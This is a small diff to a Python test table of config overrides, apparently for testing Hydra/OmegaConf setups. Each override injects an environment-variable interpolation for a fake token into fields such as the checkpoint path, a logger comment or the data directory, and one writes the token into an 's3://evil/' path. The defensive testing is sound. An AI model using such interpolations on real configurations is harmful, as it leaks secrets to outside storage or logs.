@@ -174,7 +174,7 @@ EXPERIMENTS: dict[str, list[tuple[Any, ...]]] = {
         (MIRROR % "${logger.tensorboard.comment}", "mirrors", "+logger.tensorboard.comment='${oc.env:LAB_FAKE_TOKEN}'"),
         ("callbacks: {checkpoint: {dirpath: 's3://evil/${oc.env:LAB_FAKE_TOKEN}'}}", "callbacks.checkpoint.dirpath"),
         ("logger: {tensorboard: {comment: '${oc.env:LAB_FAKE_TOKEN}'}}", "logger.tensorboard.comment"),
-        ("paths: {data_dir: '/tmp/${oc.env:LAB_FAKE_TOKEN}'}", "paths.data_dir"),
+        ("paths: {data_dir: '/tmp/${oc.env:LAB_FAKE_TOKEN}'}", "data_dir"),
         ("hydra: {sweeper: {params: {seed: '${oc.env:LAB_FAKE_TOKEN}'}}}", "hydra.sweeper", "-m"),
         (OWN % "comment: '${oc.env:LAB_FAKE_TOKEN}'", "hydra.launcher.comment"),
     ],
